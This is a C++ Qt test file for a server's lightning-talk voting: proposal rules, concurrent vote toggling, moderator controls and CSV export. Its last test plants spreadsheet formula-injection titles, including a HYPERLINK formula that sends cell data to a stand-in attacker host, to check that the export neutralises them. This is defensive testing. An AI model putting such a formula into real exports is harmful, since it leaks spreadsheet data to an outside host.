// SPDX-License-Identifier: MIT
// Lightning talks and votes on a real server: the rules of proposing, one vote per user per
// talk under concurrent toggling with every client's tallies equal to the database's, resends
// that change nothing, moderators running the vote, and the CSV export (with titles and names
// that a spreadsheet would take for formulas neutralised).
#include "fixtures.h"
#include "protocol.h"
#include "talkmessages.h"
#include "testclient.h"
#include "testserver.h"

#include <QFile>
#include <QProcess>
#include <QRandomGenerator>
#include <QSqlError>
#include <QSqlQuery>
#include <QTest>

using namespace Hallway;
using namespace Hallway::Test;

namespace {
constexpr int TallyIntervalMs = 200;

// A client's own view of the talks topic: the snapshot with every event applied.
struct TalksView {
    bool votingOpen = true;
    QMap<qint64, qint64> votes; // talk id -> tally

    void apply(const Envelope &subscribed, const QList<Envelope> &events)
    {
        const auto snapshot =
                TalkList::fromJson(subscribed.data.value(QStringLiteral("snapshot")).toObject());
        votingOpen = snapshot->votingOpen;
        votes.clear();
        for (const Talk &talk : snapshot->talks)
            votes.insert(talk.id, talk.votes);
        for (const Envelope &event : events) {
            const auto change = TalkChange::fromJson(event.data).value();
            if (change.kind == Protocol::TalkEvent::Upserted)
                votes.insert(change.talk->id, change.talk->votes);
            else if (change.kind == Protocol::TalkEvent::Removed)
                votes.remove(change.talkId);
            else if (change.kind == Protocol::TalkEvent::Voting)
                votingOpen = change.votingOpen;
            else
                for (const auto &[id, count] : change.tallies)
                    if (votes.contains(id))
                        votes.insert(id, count);
        }
    }
};
} // namespace

class tst_Talks : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void proposingRules_data();
    void proposingRules();
    void proposeResendIsStoredOnce();
    void onlyTheSpeakerEditsOrWithdraws();
    void concurrentTogglesEndWithDatabaseTallies();
    void toggleResendChangesNothing();
    void moderatorsRunTheVote();
    void hiddenTalksVanishLive();
    void csvExportMatchesTheDatabase();
    void csvExportNeutralisesFormulas();

private:
    qint64 propose(TestClient &client, const QString &title);
    QMap<qint64, qint64> databaseTallies(bool visibleOnly = true);
    TestServer m_server;
    std::unique_ptr<TestClient> m_moderator;
};

void tst_Talks::initTestCase()
{
    HALLWAY_REQUIRE_BACKEND();
    m_server.setConfig(QStringLiteral("[talks]\ntally_interval_ms=%1\n").arg(TallyIntervalMs));
    QVERIFY(m_server.start());
    QVERIFY(m_server.createModerator(QStringLiteral("mod"), TestPassword));
    m_moderator = signedIn(m_server.url(), QStringLiteral("mod"), SignIn::Login);
    QVERIFY(m_moderator);
}

// Registers (with a display name) or, without one, signs in.

qint64 tst_Talks::propose(TestClient &client, const QString &title)
{
    const Envelope reply = client.request(Protocol::Type::ProposeTalk,
                                          ProposeTalkRequest{QStringLiteral("t-") + title, title,
                                                             QStringLiteral("About ") + title}
                                                  .toJson());
    return reply.isError() ? -1
                           : reply.data.value(QStringLiteral("talk"))
                                     .toObject()
                                     .value(QStringLiteral("id"))
                                     .toInteger();
}

QMap<qint64, qint64> tst_Talks::databaseTallies(bool visibleOnly)
{
    QMap<qint64, qint64> tallies;
    {
        QSqlDatabase db = openDatabase(m_server.databaseUrl(), QStringLiteral("tallies"));
        QSqlQuery query(db);
        query.exec(QStringLiteral("SELECT t.id, COUNT(v.user_id) FROM talks t LEFT JOIN votes v ON "
                                  "v.talk_id = t.id ")
                   + (visibleOnly ? QStringLiteral("WHERE t.hidden = 0 ") : QString())
                   + QStringLiteral("GROUP BY t.id"));
        while (query.next())
            tallies.insert(query.value(0).toLongLong(), query.value(1).toLongLong());
    }
    QSqlDatabase::removeDatabase(QStringLiteral("tallies"));
    return tallies;
}

void tst_Talks::proposingRules_data()
{
    QTest::addColumn<QJsonObject>("data");
    QTest::addColumn<QString>("messagePart");
    auto talk = [](const QString &title, const QString &abstract) {
        return QJsonObject{
                {QStringLiteral("clientId"),
                 QStringLiteral("rule-") + QString::number(title.size() + abstract.size())},
                {QStringLiteral("title"), title},
                {QStringLiteral("abstract"), abstract}};
    };
    QTest::newRow("fine") << talk(QStringLiteral("Qt on a toaster"), QStringLiteral("Yes, really."))
                          << QString();
    QTest::newRow("longest") << talk(QString(120, QLatin1Char('t')),
                                     QString(2000, QLatin1Char('a')))
                             << QString();
    QTest::newRow("no title") << talk(QStringLiteral("   "), QString())
                              << QStringLiteral("a talk needs a title");
    QTest::newRow("title too long") << talk(QString(121, QLatin1Char('t')), QString())
                                    << QStringLiteral("at most 120 characters; this one has 121");
    QTest::newRow("abstract too long")
            << talk(QStringLiteral("Fine"), QString(2001, QLatin1Char('a')))
            << QStringLiteral("at most 2000 characters; this one has 2001");
    QTest::newRow("title not a string")
            << QJsonObject{{QStringLiteral("clientId"), QStringLiteral("x")},
                           {QStringLiteral("title"), 7}}
            << QStringLiteral("\"title\" must be a string");
}

void tst_Talks::proposingRules()
{
    QFETCH(QJsonObject, data);
    QFETCH(QString, messagePart);
    static std::unique_ptr<TestClient> speaker =
            signedIn(m_server.url(), QStringLiteral("rules-speaker"));
    QVERIFY(speaker);
    const Envelope reply = speaker->request(Protocol::Type::ProposeTalk, data);
    if (messagePart.isEmpty()) {
        QVERIFY2(!reply.isError(), qPrintable(reply.toError().message));
        QCOMPARE(reply.data.value(QStringLiteral("talk"))
                         .toObject()
                         .value(QStringLiteral("votes"))
                         .toInteger(),
                 0);
    } else {
        QCOMPARE(reply.toError().code, ErrorCode::BadRequest);
        QVERIFY2(reply.toError().message.contains(messagePart),
                 qPrintable(reply.toError().message));
    }
}

void tst_Talks::proposeResendIsStoredOnce()
{
    auto speaker = signedIn(m_server.url(), QStringLiteral("resend-speaker"));
    auto watcher = signedIn(m_server.url(), QStringLiteral("resend-watcher"));
    QVERIFY(speaker && watcher);
    QVERIFY(!watcher->subscribe(Protocol::Topic::Talks).isError());
    const QJsonObject data =
            ProposeTalkRequest{QStringLiteral("once"), QStringLiteral("Said once"), QString()}
                    .toJson();
    const Envelope first = speaker->request(Protocol::Type::ProposeTalk, data);
    const Envelope again = speaker->request(Protocol::Type::ProposeTalk, data);
    QVERIFY(!first.isError() && !again.isError());
    QVERIFY(again.data.value(QStringLiteral("duplicate")).toBool());
    QCOMPARE(again.data.value(QStringLiteral("talk")).toObject().value(QStringLiteral("id")),
             first.data.value(QStringLiteral("talk")).toObject().value(QStringLiteral("id")));
    // A fence: the next proposal's event comes after any second event of the first.
    QVERIFY(propose(*speaker, QStringLiteral("Said next")) > 0);
    QVERIFY(!watcher->waitForEvent(Protocol::Topic::Talks,
                                   [](const Envelope &event) {
                                       return event.data.value(QStringLiteral("talk"))
                                                      .toObject()
                                                      .value(QStringLiteral("title"))
                                               == QStringLiteral("Said next");
                                   })
                     .type.isEmpty());
    int upserts = 0;
    for (const Envelope &event : watcher->events())
        upserts += event.data.value(QStringLiteral("kind")).toString()
                == Protocol::TalkEvent::Upserted;
    QCOMPARE(upserts, 1);
}

void tst_Talks::onlyTheSpeakerEditsOrWithdraws()
{
    auto speaker = signedIn(m_server.url(), QStringLiteral("owner"));
    auto stranger = signedIn(m_server.url(), QStringLiteral("stranger"));
    const qint64 talk = propose(*speaker, QStringLiteral("Mine"));
    QVERIFY(talk > 0);
    const QJsonObject edit =
            EditTalkRequest{talk, QStringLiteral("Mine, improved"), QStringLiteral("Better")}
                    .toJson();
    QCOMPARE(stranger->request(Protocol::Type::EditTalk, edit).toError().code,
             ErrorCode::Forbidden);
    QCOMPARE(stranger->request(Protocol::Type::WithdrawTalk, TalkRequest{talk}.toJson())
                     .toError()
                     .code,
             ErrorCode::Forbidden);
    const Envelope edited = speaker->request(Protocol::Type::EditTalk, edit);
    QCOMPARE(edited.data.value(QStringLiteral("talk"))
                     .toObject()
                     .value(QStringLiteral("title"))
                     .toString(),
             QStringLiteral("Mine, improved"));
    QVERIFY(!speaker->request(Protocol::Type::WithdrawTalk, TalkRequest{talk}.toJson()).isError());
    QCOMPARE(speaker->request(Protocol::Type::WithdrawTalk, TalkRequest{talk}.toJson())
                     .toError()
                     .code,
             ErrorCode::NotFound);
}

void tst_Talks::concurrentTogglesEndWithDatabaseTallies()
{
    QList<qint64> talks;
    for (int i = 0; i < 5; ++i) {
        talks.append(propose(*m_moderator, QStringLiteral("Talk %1").arg(i)));
        QVERIFY(talks.constLast() > 0);
    }
    std::vector<std::unique_ptr<TestClient>> voters;
    std::vector<Envelope> subscriptions;
    for (int i = 0; i < 50; ++i) {
        voters.push_back(signedIn(m_server.url(), QStringLiteral("voter%1").arg(i)));
        QVERIFY(voters.back());
        subscriptions.push_back(voters.back()->subscribe(Protocol::Topic::Talks));
        QVERIFY(!subscriptions.back().isError());
    }

    // Everyone toggling at random, bounded: 30 rounds of one toggle each, pipelined within a
    // round; a round ends when every voter has its answer.
    auto *random = QRandomGenerator::global();
    int sent = 0;
    QElapsedTimer clock;
    clock.start();
    for (int round = 0; round < 30 && clock.elapsed() < 20'000; ++round) {
        for (std::size_t v = 0; v < voters.size(); ++v) {
            const qint64 talk = talks.at(random->bounded(5));
            voters[v]->sendRaw(QString::fromUtf8(Envelope{
                    Protocol::Type::ToggleVote,
                    QStringLiteral("r%1").arg(round),
                    ToggleVoteRequest{QStringLiteral("v%1-%2").arg(v).arg(round), talk}.toJson(),
                    {},
                    0}
                                                         .toJson()));
            ++sent;
        }
        for (auto &voter : voters)
            QVERIFY(!voter->waitForReply(QStringLiteral("r%1").arg(round), 30'000).isError());
    }
    const qint64 elapsed = clock.elapsed();
    const QMap<qint64, qint64> database = databaseTallies();
    qint64 total = 0;
    for (const qint64 talk : talks)
        total += database.value(talk);
    QVERIFY(total > 0);
    // Every voter's view reaches the database's tallies once the last coalesced round is out.
    const auto viewOf = [&](std::size_t v) {
        TalksView view;
        view.apply(subscriptions[v], voters[v]->events());
        QMap<qint64, qint64> votes;
        for (const qint64 talk : talks)
            votes.insert(talk, view.votes.value(talk));
        return votes;
    };
    QMap<qint64, qint64> expected;
    for (const qint64 talk : talks)
        expected.insert(talk, database.value(talk));
    for (std::size_t v = 0; v < voters.size(); ++v) {
        QTRY_COMPARE_WITH_TIMEOUT(viewOf(v), expected, 10'000);
        // Coalesced: a few tally events per second at most, not one per toggle.
        int tallyEvents = 0;
        for (const Envelope &event : voters[v]->events())
            tallyEvents += event.data.value(QStringLiteral("kind")).toString()
                    == Protocol::TalkEvent::Tallies;
        QVERIFY2(tallyEvents <= elapsed / TallyIntervalMs + 3,
                 qPrintable(QString::number(tallyEvents)));
    }
    qInfo("%d toggles from 50 clients in %lld ms; %lld votes stand", sent, elapsed, total);
}

void tst_Talks::toggleResendChangesNothing()
{
    auto voter = signedIn(m_server.url(), QStringLiteral("careful"));
    const qint64 talk = propose(*m_moderator, QStringLiteral("Voted on carefully"));
    QVERIFY(voter && talk > 0);
    const QJsonObject toggle = ToggleVoteRequest{QStringLiteral("only-once"), talk}.toJson();
    const auto first = VoteReply::fromJson(voter->request(Protocol::Type::ToggleVote, toggle).data);
    QVERIFY(first);
    QVERIFY(first->voted);
    const qint64 before = databaseTallies().value(talk);
    const auto again = VoteReply::fromJson(voter->request(Protocol::Type::ToggleVote, toggle).data);
    QVERIFY(again->voted);
    QCOMPARE(again->votes, before);
    QCOMPARE(databaseTallies().value(talk), before);
    // A new toggle takes it back; the talks you voted for are listed.
    const auto myVotes = MyVotesReply::fromJson(voter->request(Protocol::Type::MyVotes).data);
    QCOMPARE(myVotes->talkIds, QList<qint64>{talk});
    const auto undone = VoteReply::fromJson(
            voter->request(Protocol::Type::ToggleVote,
                           ToggleVoteRequest{QStringLiteral("second"), talk}.toJson())
                    .data);
    QVERIFY(!undone->voted);
    QCOMPARE(undone->votes, before - 1);
}

void tst_Talks::moderatorsRunTheVote()
{
    auto attendee = signedIn(m_server.url(), QStringLiteral("attendee"));
    const qint64 talk = propose(*m_moderator, QStringLiteral("Voted on in time"));
    QVERIFY(attendee && talk > 0);
    QVERIFY(!attendee->subscribe(Protocol::Topic::Talks).isError());
    for (const QString &type : {Protocol::Type::SetVoting, Protocol::Type::HideTalk,
                                Protocol::Type::ListTalks, Protocol::Type::ExportTalks}) {
        const QJsonObject data{{QStringLiteral("open"), false},
                               {QStringLiteral("talkId"), talk},
                               {QStringLiteral("hidden"), true}};
        QCOMPARE(attendee->request(type, data).toError().code, ErrorCode::Forbidden);
    }
    QVERIFY(!m_moderator->request(Protocol::Type::SetVoting, {{QStringLiteral("open"), false}})
                     .isError());
    const Envelope closed =
            attendee->waitForEvent(Protocol::Topic::Talks, [](const Envelope &event) {
                return event.data.value(QStringLiteral("kind")).toString()
                        == Protocol::TalkEvent::Voting;
            });
    QCOMPARE(closed.data.value(QStringLiteral("open")).toBool(true), false);
    const Envelope refused = attendee->request(
            Protocol::Type::ToggleVote, ToggleVoteRequest{QStringLiteral("late"), talk}.toJson());
    QCOMPARE(refused.toError().code, ErrorCode::Conflict);
    QCOMPARE(refused.toError().message, QStringLiteral("voting is closed"));
    QCOMPARE(
            attendee->request(Protocol::Type::ProposeTalk,
                              ProposeTalkRequest{QStringLiteral("late"), QStringLiteral("Late"), {}}
                                      .toJson())
                    .toError()
                    .code,
            ErrorCode::Conflict);
    // A new subscriber learns it from the snapshot.
    auto newcomer = signedIn(m_server.url(), QStringLiteral("newcomer"));
    QCOMPARE(newcomer->subscribe(Protocol::Topic::Talks)
                     .data.value(QStringLiteral("snapshot"))
                     .toObject()
                     .value(QStringLiteral("votingOpen"))
                     .toBool(true),
             false);
    QVERIFY(!m_moderator->request(Protocol::Type::SetVoting, {{QStringLiteral("open"), true}})
                     .isError());
    QVERIFY(!attendee->request(Protocol::Type::ToggleVote,
                               ToggleVoteRequest{QStringLiteral("on-time"), talk}.toJson())
                     .isError());
}

void tst_Talks::hiddenTalksVanishLive()
{
    const qint64 talk = propose(*m_moderator, QStringLiteral("To be hidden"));
    QVERIFY(talk > 0);
    auto a = signedIn(m_server.url(), QStringLiteral("viewer-a"));
    auto b = signedIn(m_server.url(), QStringLiteral("viewer-b"));
    QVERIFY(!a->subscribe(Protocol::Topic::Talks).isError());
    QVERIFY(!b->subscribe(Protocol::Topic::Talks).isError());
    QVERIFY(!m_moderator->request(Protocol::Type::HideTalk, SetHiddenRequest{talk, true}.toJson())
                     .isError());
    for (TestClient *viewer : {a.get(), b.get()}) {
        const Envelope removed =
                viewer->waitForEvent(Protocol::Topic::Talks, [](const Envelope &event) {
                    return event.data.value(QStringLiteral("kind")).toString()
                            == Protocol::TalkEvent::Removed;
                });
        QCOMPARE(removed.data.value(QStringLiteral("talkId")).toInteger(), talk);
    }
    QCOMPARE(a->request(Protocol::Type::ToggleVote,
                        ToggleVoteRequest{QStringLiteral("hidden"), talk}.toJson())
                     .toError()
                     .code,
             ErrorCode::NotFound);
    const auto all = TalkList::fromJson(m_moderator->request(Protocol::Type::ListTalks).data);
    QVERIFY(std::any_of(all->talks.cbegin(), all->talks.cend(),
                        [talk](const Talk &t) { return t.id == talk && t.hidden; }));
    // A fresh subscriber does not see it either.
    auto c = signedIn(m_server.url(), QStringLiteral("viewer-c"));
    const auto seen = TalkList::fromJson(
            c->subscribe(Protocol::Topic::Talks).data.value(QStringLiteral("snapshot")).toObject());
    QVERIFY(std::none_of(seen->talks.cbegin(), seen->talks.cend(),
                         [talk](const Talk &t) { return t.id == talk; }));
    // Unhiding brings it back.
    QVERIFY(!m_moderator->request(Protocol::Type::HideTalk, SetHiddenRequest{talk, false}.toJson())
                     .isError());
    const Envelope back = a->waitForEvent(Protocol::Topic::Talks, [talk](const Envelope &event) {
        return event.data.value(QStringLiteral("kind")).toString() == Protocol::TalkEvent::Upserted
                && event.data.value(QStringLiteral("talk"))
                           .toObject()
                           .value(QStringLiteral("id"))
                           .toInteger()
                == talk;
    });
    QVERIFY(!back.type.isEmpty());
}

void tst_Talks::csvExportMatchesTheDatabase()
{
    // One talk on show and one hidden, besides whatever earlier functions proposed.
    QVERIFY(propose(*m_moderator, QStringLiteral("Exported")) > 0);
    const qint64 hidden = propose(*m_moderator, QStringLiteral("Not exported"));
    QVERIFY(hidden > 0);
    QVERIFY(!m_moderator->request(Protocol::Type::HideTalk, SetHiddenRequest{hidden, true}.toJson())
                     .isError());
    const QString csv = m_moderator->request(Protocol::Type::ExportTalks)
                                .data.value(QStringLiteral("csv"))
                                .toString();
    QStringList expected{QStringLiteral("rank,title,speaker,votes")};
    {
        QSqlDatabase db = openDatabase(m_server.databaseUrl(), QStringLiteral("export"));
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("SELECT t.title, u.display_name, (SELECT COUNT(*) FROM "
                                          "votes v WHERE v.talk_id = t.id) AS n "
                                          "FROM talks t JOIN users u ON u.id = t.speaker_id WHERE "
                                          "t.hidden = 0 ORDER BY n DESC, t.id")));
        int rank = 0;
        while (query.next()) {
            QString title = query.value(0).toString();
            if (title.contains(QLatin1Char(',')))
                title = QLatin1Char('"') + title + QLatin1Char('"');
            expected.append(QStringLiteral("%1,%2,%3,%4")
                                    .arg(++rank)
                                    .arg(title, query.value(1).toString())
                                    .arg(query.value(2).toLongLong()));
        }
    }
    QSqlDatabase::removeDatabase(QStringLiteral("export"));
    QCOMPARE(csv.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts), expected);
    QVERIFY(csv.contains(QStringLiteral(",Exported,")));
    QVERIFY(!csv.contains(QStringLiteral("Not exported")));

    // The same from the command line.
    QProcess tool;
    tool.start(TestServer::executable(),
               {QStringLiteral("--database"), m_server.databaseUrl(),
                QStringLiteral("--export-talks"), QStringLiteral("-")});
    QVERIFY(tool.waitForFinished(20'000));
    QCOMPARE(tool.exitCode(), 0);
    QCOMPARE(QString::fromUtf8(tool.readAllStandardOutput()), csv);
}

void tst_Talks::csvExportNeutralisesFormulas()
{
    // A room of its own, so the whole file is known to the byte.
    TestServer server;
    QVERIFY(server.start());
    QVERIFY(server.createModerator(QStringLiteral("csvmod"), TestPassword));
    auto moderator = signedIn(server.url(), QStringLiteral("csvmod"), SignIn::Login);
    auto mallory = signedIn(server.url(), QStringLiteral("mallory"), SignIn::Register,
                            displayedAs(QStringLiteral("@Mallory")));
    auto ann = signedIn(server.url(), QStringLiteral("ann"), SignIn::Register,
                        displayedAs(QStringLiteral("Ann, Speaker")));
    QVERIFY(moderator && mallory && ann);

    // No votes: the rows come in the order proposed.
    const QList<std::pair<TestClient *, QString>> proposals = {
            {mallory.get(), QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Hi\")")},
            {mallory.get(), QStringLiteral("+1")},
            {mallory.get(), QStringLiteral("-2+3")},
            {mallory.get(), QStringLiteral("@SUM(A1)")},
            {ann.get(), QStringLiteral("Tab first")}, // gets its tab below
            {ann.get(), QStringLiteral("Return first")}, // gets its carriage return below
            {ann.get(), QStringLiteral("Say \"hi\", then 1+1=2")},
            {ann.get(), QStringLiteral("Plain - no formula")},
    };
    QList<qint64> ids;
    for (const auto &[speaker, title] : proposals) {
        ids.append(propose(*speaker, title));
        QVERIFY2(ids.constLast() > 0, qPrintable(title));
    }
    // The protocol refuses control characters in a title, but a database written by hand or
    // by an older version may hold them: the export must not trust it.
    {
        QSqlDatabase db = openDatabase(server.databaseUrl(), QStringLiteral("csvformulas"));
        QSqlQuery query(db);
        QVERIFY(query.prepare(QStringLiteral("UPDATE talks SET title = ? WHERE id = ?")));
        for (const auto &[index, title] :
             {std::pair{4, QStringLiteral("\t=1+1")}, std::pair{5, QStringLiteral("\r=2+2")}}) {
            query.addBindValue(title);
            query.addBindValue(ids.at(index));
            QVERIFY2(query.exec(), qPrintable(query.lastError().text()));
        }
    }
    QSqlDatabase::removeDatabase(QStringLiteral("csvformulas"));

    const QString expected = QStringLiteral(
            "rank,title,speaker,votes\r\n"
            "1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Hi\"\")\",\"'@Mallory\",0\r\n"
            "2,\"'+1\",\"'@Mallory\",0\r\n"
            "3,\"'-2+3\",\"'@Mallory\",0\r\n"
            "4,\"'@SUM(A1)\",\"'@Mallory\",0\r\n"
            "5,\"'\t=1+1\",\"Ann, Speaker\",0\r\n"
            "6,\"'\r=2+2\",\"Ann, Speaker\",0\r\n"
            "7,\"Say \"\"hi\"\", then 1+1=2\",\"Ann, Speaker\",0\r\n"
            "8,Plain - no formula,\"Ann, Speaker\",0\r\n");

    // Through the real server, as a moderator's app asks for it...
    const Envelope exported = moderator->request(Protocol::Type::ExportTalks);
    QVERIFY2(!exported.isError(), qPrintable(exported.toError().message));
    QCOMPARE(exported.data.value(QStringLiteral("csv")).toString(), expected);

    // ...and from the command line, to a file.
    const QString path = server.dir() + QStringLiteral("/results.csv");
    QString output;
    QCOMPARE(server.runTool({QStringLiteral("--export-talks"), path}, &output), 0);
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    QCOMPARE(QString::fromUtf8(file.readAll()), expected);
}

QTEST_GUILESS_MAIN(tst_Talks)
#include "tst_talks.moc"
